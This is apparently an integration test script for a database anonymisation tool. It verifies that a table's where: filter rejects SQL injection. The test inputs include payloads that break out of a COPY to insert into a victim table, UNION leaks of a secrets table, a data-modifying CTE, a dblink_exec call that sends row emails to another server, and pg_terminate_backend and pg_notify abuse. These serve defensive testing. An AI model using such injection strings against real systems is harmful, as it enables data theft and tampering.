#!/usr/bin/env bash
# tests/integration/where.sh: a table's `where:` is one boolean expression, nothing more
# (issue 10.2).
#
# The text is pasted into several statements as `WHERE (...)`. The attack of the issue
# ends the COPY and writes to the source; its neighbours leave the parentheses without a
# `;` (a UNION that publishes another table through this table's rules), hide the rest
# in a comment, or call functions with side effects. Refused lexically at `check` (no
# source needed) and by the server at `check --source` and `run` (prepared, never run,
# in the read-only snapshot transaction); what stays allowed is quoted text holding `;`,
# `--` and parentheses, in every quoting style. A volatile function (dblink, pg_notify,
# large objects, nextval, pg_terminate_backend...) is refused before any row is read.
# A foreign key into a table with where: from a table that publishes the referencing
# columns unfiltered is warned about at check --source (the left-out rows are seen there).
set -u
cd "$(dirname "$0")/../.."
. tests/lib/tap.sh
. tests/lib/poll.sh
. tests/lib/pgcluster.sh

ANONETL=${ANONETL:-./anonetl}
pgc_pair || { echo "not ok 1 - clusters did not start"; exit 1; }
export ANONETL_HASH_KEY=$(openssl rand -hex 32)
# A source role that could write (the worst case the issue describes): postgres.
export SOURCE_DATABASE_URL="$(pgc_dsn "$work/src" postgres postgres)"
export TARGET_DATABASE_URL="$(pgc_dsn "$work/tgt" postgres postgres)"

S >/dev/null <<'SQL'
CREATE TABLE people (id bigint PRIMARY KEY, email text NOT NULL, note text, is_test boolean NOT NULL DEFAULT false);
INSERT INTO people SELECT g, 'u' || g || '@x.org', 'note ' || g, g % 10 = 0 FROM generate_series(1, 100) g;
UPDATE people SET note = 'a ; -- ) b' WHERE id = 1;
UPDATE people SET note = 'it''s; -- (' WHERE id = 2;
CREATE TABLE secrets (id bigint PRIMARY KEY, email text NOT NULL, note text, is_test boolean NOT NULL DEFAULT false);
INSERT INTO secrets VALUES (1001, 'secret@x.org', 'SECRET-NOTE', false);
CREATE TABLE victim (what text);
CREATE SEQUENCE seq;
SQL

config() { # FILE WHERE-TEXT [SOURCE-ENV] [SCHEMA]: where: as a literal block (no escapes)
    cat >"$1" <<YAML
version: 1
source: { dsn: { env: ${3:-SOURCE_DATABASE_URL} } }
target: { dsn: { env: TARGET_DATABASE_URL }, schema: ${4:-anonymised} }
secrets: { hash_key: { env: ANONETL_HASH_KEY } }
tables:
  - name: public.people
    where: |-
      $2
    columns: { id: { hash_int: {} }, email: { hash: {} }, note: keep, is_test: keep }
YAML
}
run() { "$ANONETL" run -c "$1" --skip-preflight >"$work/run.out" 2>&1; }
victims() { S -tAc "SELECT count(*) FROM victim"; }

# --- a filter that works, quoted specials in every style ---------------------------------
config "$work/ok.yaml" "NOT is_test AND note <> 'a ; -- ) b' AND note <> E'it\\'s; -- (' AND note <> \$q\$ ; /* \$q\$ AND \"note\" IS NOT NULL"
"$ANONETL" check -c "$work/ok.yaml" >"$work/ok.check" 2>&1; rc=$?
expect_eq "quoted ';', '--', '/*' and parentheses (standard, E, dollar, identifier) pass check" 0 "$rc"
"$ANONETL" check -c "$work/ok.yaml" --source >"$work/ok.check" 2>&1; rc=$?
expect_eq "and check --source" 0 "$rc"
run "$work/ok.yaml"; rc=$?
expect_eq "a run with that filter exits 0" 0 "$rc"
expect_eq "the filter filtered as written (100 - 10 test - 2 quoted notes)" 88 "$(T -tAc 'SELECT count(*) FROM anonymised.people')"
published=$(T -tAc "SELECT count(*) || ':' || md5(string_agg(t::text, '|' ORDER BY t::text)) FROM anonymised.people t")

# --- the attack of the issue: end the COPY, commit, write --------------------------------
config "$work/attack.yaml" "true)) TO STDOUT; COMMIT; BEGIN READ WRITE; INSERT INTO public.victim VALUES ('pwned'); COMMIT; --"
"$ANONETL" check -c "$work/attack.yaml" >"$work/attack.check" 2>&1; rc=$?
expect_eq "the attack: check exits 2" 2 "$rc"
check "the attack: the error names file:line:col and where:" grep -q 'attack.yaml:7:[0-9]*: tables\[0\].where: ' "$work/attack.check"
run "$work/attack.yaml"; rc=$?
expect_eq "the attack: run exits 2" 2 "$rc"
expect_eq "the attack: nothing written to the source" 0 "$(victims)"

# --- neighbours: leave the parentheses without ';', hide the rest in a comment -------------
config "$work/union.yaml" "true) UNION ALL SELECT id, email, note, is_test FROM public.secrets WHERE (true"
"$ANONETL" check -c "$work/union.yaml" >"$work/union.check" 2>&1; rc=$?
expect_eq "a UNION out of the parentheses: check exits 2" 2 "$rc"
run "$work/union.yaml"; rc=$?
expect_eq "a UNION out of the parentheses: run exits 2" 2 "$rc"
expect_eq "another table's rows were not published" 0 "$(T -tAc "SELECT count(*) FROM anonymised.people WHERE note = 'SECRET-NOTE'")"
for w in "NOT is_test -- and more" "NOT is_test /* x */" "NOT is_test; DELETE FROM public.victim" "(NOT is_test" "note = 'open" "note = \$a\$ x" "note = 1E'x'"; do
    config "$work/n.yaml" "$w"
    "$ANONETL" check -c "$work/n.yaml" >"$work/n.check" 2>&1; rc=$?
    expect_eq "refused at check (exit 2): where: $w" 2 "$rc"
done

# --- the server's half: a boolean expression over the table --------------------------------
config "$work/int.yaml" "id + 1"
"$ANONETL" check -c "$work/int.yaml" >/dev/null 2>&1; rc=$?
expect_eq "not boolean: check (no source) exits 0, the text is one expression" 0 "$rc"
"$ANONETL" check -c "$work/int.yaml" --source >"$work/int.check" 2>&1; rc=$?
expect_eq "not boolean: check --source exits 2" 2 "$rc"
check "not boolean: the server's reason, file:line:col" grep -q 'int.yaml:6:[0-9]*: tables.public.people.where: .*must be type boolean' "$work/int.check"
run "$work/int.yaml"; rc=$?
expect_eq "not boolean: run exits 2 before copying" 2 "$rc"
config "$work/col.yaml" "nosuch = 1"
"$ANONETL" check -c "$work/col.yaml" --source >"$work/col.check" 2>&1; rc=$?
expect_eq "unknown column: check --source exits 2" 2 "$rc"
check "unknown column: named, with where in where: it is" grep -q 'column "nosuch" does not exist (SQLSTATE 42703, at character 1 of where:)' "$work/col.check"
cat "$work/int.yaml" - >"$work/two.yaml" <<'YAML'
  - name: public.secrets
    columns: { id: { hash_int: {} }, email: { hash: {} }, note: suppress, is_test: keep }
YAML
"$ANONETL" check -c "$work/two.yaml" --source >"$work/two.check" 2>&1; rc=$?
expect_eq "a refused where: then another table: check --source exits 2 (not 6)" 2 "$rc"
if grep -q 'aborted\|does not exist in the source' "$work/two.check"; then
    not_ok "the next table is still checked normally" "$(head -3 "$work/two.check")"
else ok "the next table is still checked normally"; fi
config "$work/cte.yaml" "EXISTS (WITH x AS (INSERT INTO public.victim VALUES ('cte') RETURNING 1) SELECT 1 FROM x)"
"$ANONETL" check -c "$work/cte.yaml" --source >"$work/cte.check" 2>&1; rc=$?
expect_eq "a data-modifying WITH in a subquery: check --source exits 2" 2 "$rc"
run "$work/cte.yaml"; rc=$?
expect_eq "a data-modifying WITH in a subquery: run exits 2, nothing written" "2 0" "$rc $(victims)"
expect_eq "published data unchanged after every refusal" "$published" "$(T -tAc "SELECT count(*) || ':' || md5(string_agg(t::text, '|' ORDER BY t::text)) FROM anonymised.people t")"

# --- side effects: a volatile function is refused before any row is read -----------------
# The snapshot is read only, yet functions with effects outside tables still run there:
# dblink sends row values to another server, pg_notify to any listener, lo_from_bytea
# into a large object. Every volatile function is refused, at check --source and run,
# however it is spelled (qualified, upper case, a quoted name).
S -c "CREATE EXTENSION dblink" >/dev/null
T -c "CREATE TABLE public.exfil (v text)" >/dev/null
TGT_CONNINFO="$(pgc_dsn "$work/tgt" postgres postgres)"
config "$work/dblink.yaml" "CASE WHEN id <= 3 THEN public.dblink_exec('$TGT_CONNINFO', 'INSERT INTO public.exfil VALUES (' || quote_literal(email) || ')') IS NOT NULL ELSE true END"
"$ANONETL" check -c "$work/dblink.yaml" --source >"$work/dblink.check" 2>&1; rc=$?
expect_eq "dblink_exec() with row values: check --source exits 2" 2 "$rc"
check "and names the volatile function" grep -q 'calls public.dblink_exec, a volatile function' "$work/dblink.check"
run "$work/dblink.yaml"; rc=$?
expect_eq "dblink_exec() with row values: run exits 2, no value sent to the other server" "2 0" "$rc $(T -tAc 'SELECT count(*) FROM public.exfil')"
for expr in "nextval('public.seq') > 0" "pg_notify('ch', email) IS NOT NULL" \
    "PG_CATALOG.PG_NOTIFY('ch', email) IS NOT NULL" "\"pg_sleep\"(0) IS NOT NULL" \
    "lo_from_bytea(0, convert_to(email, 'UTF8')) > 0" "set_config('x.y', email, false) <> ''" \
    "random() < 0.5" "EXISTS (SELECT 1 FROM public.secrets s WHERE pg_advisory_lock(s.id) IS NOT NULL)"; do
    config "$work/vol.yaml" "$expr"
    "$ANONETL" check -c "$work/vol.yaml" --source >"$work/vol.check" 2>&1; rc=$?
    expect_eq "volatile in where: refused at check --source (exit 2): $expr" 2 "$rc"
done
run "$work/vol.yaml"; rc=$?
expect_eq "run refuses it too (exit 2)" 2 "$rc"
expect_eq "nothing happened: the sequence did not move, no large object" "f 0" \
    "$(S -tAc "SELECT is_called FROM seq") $(S -tAc 'SELECT count(*) FROM pg_largeobject_metadata')"
config "$work/stable.yaml" "lower(email) LIKE '%@x.org' AND length(note) > 0 AND to_char(id, 'FM999') <> ''"
"$ANONETL" check -c "$work/stable.yaml" --source >"$work/stable.check" 2>&1; rc=$?
expect_eq "immutable and stable functions stay allowed (check --source exits 0)" 0 "$rc"

# --- and what the source role's privileges bound: the least-privilege reader --------------
S -v tables='public.people' -f sql/roles/source_reader.sql >/dev/null
export READER_URL="$(pgc_dsn "$work/src" postgres anonetl_reader)"
pgc_psql "$work/src" -c "SET application_name = 'victim_session'; SELECT pg_sleep(60)" >/dev/null 2>&1 &
sleeper=$!
# polled for 60 s: a psql slow to start on a loaded machine left pid empty after 50 tries
victim_pid() { pid=$(S -tAc "SELECT pid FROM pg_stat_activity WHERE application_name = 'victim_session'") && [ -n "$pid" ]; }
poll_until 60 victim_pid || not_ok "the victim session started"
config "$work/kill.yaml" "pg_terminate_backend($pid) IS NOT NULL" READER_URL reader_view
run "$work/kill.yaml"; rc=$?
expect_eq "pg_terminate_backend() of another session: refused before reading (exit 2)" 2 "$rc"
expect_eq "the other session is still alive" 1 "$(S -tAc "SELECT count(*) FROM pg_stat_activity WHERE pid = $pid")"
kill "$sleeper" 2>/dev/null; wait "$sleeper" 2>/dev/null

# --- rows where: leaves out, referenced from another table --------------------------------
# parties publishes the consenting parties only; cases references every party and
# publishes party_id hashed: the left-out parties' pseudonyms are in cases and in no row of
# parties, which lists who was left out (and their cases) for the data team. check
# --source says so, naming the foreign key (names only); not for a referencing column
# that is suppressed, nor a referencing table with a where: of its own.
S >/dev/null <<'SQL'
CREATE TABLE parties (id bigint PRIMARY KEY, name text, consent boolean NOT NULL);
CREATE TABLE cases (id bigint PRIMARY KEY, party_id bigint REFERENCES parties, summary text);
CREATE TABLE case_notes (id bigint PRIMARY KEY, party_id bigint REFERENCES parties, body text);
INSERT INTO parties SELECT g, 'Party ' || g, g % 5 <> 0 FROM generate_series(1, 50) g;
INSERT INTO cases SELECT g, 1 + g % 50, 'case ' || g FROM generate_series(1, 100) g;
INSERT INTO case_notes SELECT g, 1 + g % 50, 'note ' || g FROM generate_series(1, 100) g;
SQL
refs_config() { # FILE CASES-WHERE-LINE
    cat >"$1" <<YAML
version: 1
source: { dsn: { env: SOURCE_DATABASE_URL } }
target: { dsn: { env: TARGET_DATABASE_URL }, schema: refs }
secrets: { hash_key: { env: ANONETL_HASH_KEY } }
tables:
  - name: public.parties
    where: consent
    columns: { id: { hash_int: {} }, name: { hash: {} }, consent: suppress }
  - name: public.cases
$2
    columns: { id: { hash_int: {} }, party_id: { hash_int: {} }, summary: suppress }
  - name: public.case_notes
    columns: { id: { hash_int: {} }, party_id: suppress, body: suppress }
YAML
}
refs_config "$work/refs.yaml" ""
"$ANONETL" check -c "$work/refs.yaml" --source >"$work/refs.check" 2>&1; rc=$?
expect_eq "referenced where: check --source exits 0 (a warning)" 0 "$rc"
grep -q "^warning: public.cases: the rows of public.parties that its where: leaves out are still referenced here (foreign key cases_party_id_fkey: party_id published)" "$work/refs.check"
check "check --source warns: cases publishes the keys of the parties where: leaves out" test $? -eq 0
grep -q "warning: public.case_notes" "$work/refs.check"
check "no warning for a referencing column that is suppressed" test $? -ne 0
run "$work/refs.yaml"
expect_eq "(what the warning is about: the left-out parties' pseudonyms are in cases alone)" 10 \
    "$(T -tAc "SELECT count(DISTINCT c.party_id) FROM refs.cases c LEFT JOIN refs.parties p ON p.id = c.party_id WHERE p.id IS NULL")"
refs_config "$work/refs2.yaml" "    where: party_id IN (SELECT id FROM parties WHERE consent)"
"$ANONETL" check -c "$work/refs2.yaml" --source >"$work/refs2.check" 2>&1
grep -q "warning: public.cases" "$work/refs2.check"
check "no warning once cases has a where: of its own" test $? -ne 0

# --- inheritance children: read with their parent ------------------------------------------
# SELECT from a parent reads its INHERITS children too: an archive of erased members is
# published under members' rules though no rule names it, and a configured child's rows
# twice (under the parent's rules too). check --source names each child (not partitions,
# whose rows are their parent's) with the where: that leaves them out; the run with it
# publishes the parent's own rows only.
S >/dev/null <<'SQL'
CREATE TABLE members (id bigint PRIMARY KEY, email text);
INSERT INTO members SELECT g, 'm' || g || '@x.org' FROM generate_series(1, 10) g;
CREATE TABLE members_erased (erased_on date) INHERITS (members);
INSERT INTO members_erased VALUES (101, 'erased@x.org', '2026-01-01');
CREATE TABLE members_vip () INHERITS (members);
INSERT INTO members_vip VALUES (201, 'vip@x.org');
CREATE TABLE visits (id bigint, at date) PARTITION BY RANGE (id);
CREATE TABLE visits_1 PARTITION OF visits FOR VALUES FROM (0) TO (1000);
INSERT INTO visits VALUES (1, '2026-01-01');
SQL
inh_config() { # FILE WHERE-LINE
    cat >"$1" <<YAML
version: 1
source: { dsn: { env: SOURCE_DATABASE_URL } }
target: { dsn: { env: TARGET_DATABASE_URL }, schema: inh }
secrets: { hash_key: { env: ANONETL_HASH_KEY } }
tables:
  - name: public.members
$2
    columns: { id: { hash_int: {} }, email: { hash: {} } }
  - name: public.members_vip
    columns: { id: { hash_int: {} }, email: suppress }
  - name: public.visits
    columns: { id: { hash_int: {} }, at: { generalise: { to: year } } }
YAML
}
inh_config "$work/inh.yaml" ""
"$ANONETL" check -c "$work/inh.yaml" --source >"$work/inh.check" 2>&1; rc=$?
expect_eq "inheritance children: check --source exits 0 (warnings)" 0 "$rc"
grep -q "^warning: public.members: its inheritance child public.members_erased is read with it (a parent's rows include its children's): its rows are published under these rules, though no rule names that table; to leave them out: where: \"tableoid = 'public.members'::regclass\"$" "$work/inh.check"
check "check --source names the child no rule names, and the where: that leaves it out" test $? -eq 0
grep -q "^warning: public.members: its inheritance child public.members_vip is read with it .*: its rows are published here under these rules too, besides its own" "$work/inh.check"
check "and the configured child, published twice" test $? -eq 0
expect_eq "no warning for a partition, nor for a table without children" 2 "$(grep -c '^warning: ' "$work/inh.check")"
run "$work/inh.yaml"
expect_eq "(what the warning is about: the run publishes the children's rows under members)" 12 \
    "$(T -tAc "SELECT count(*) FROM inh.members")"
grep -q '"event":"inheritance_child","table":"public.members".*its inheritance child public.members_erased is read with it' "$work/run.out"
check "every run logs it too (inheritance_child): a child added after the config is seen" test $? -eq 0
inh_config "$work/inh2.yaml" "    where: $(sed -n "s/^warning: public.members: its inheritance child public.members_erased .* where: //p" "$work/inh.check")"
"$ANONETL" check -c "$work/inh2.yaml" --source >"$work/inh2.check" 2>&1; rc=$?
expect_eq "the where: the warning gives passes check --source" 0 "$rc"
expect_eq "and silences it (a where: over tableoid chooses the relations)" 0 "$(grep -c '^warning: public.members' "$work/inh2.check")"
run "$work/inh2.yaml"; rc=$?
expect_eq "and the run with it exits 0" 0 "$rc"
expect_eq "and publishes members' own rows only" 10 "$(T -tAc "SELECT count(*) FROM inh.members")"
expect_eq "and logs no inheritance_child" 0 "$(grep -c '"event":"inheritance_child","table":"public.members"' "$work/run.out")"

done_testing
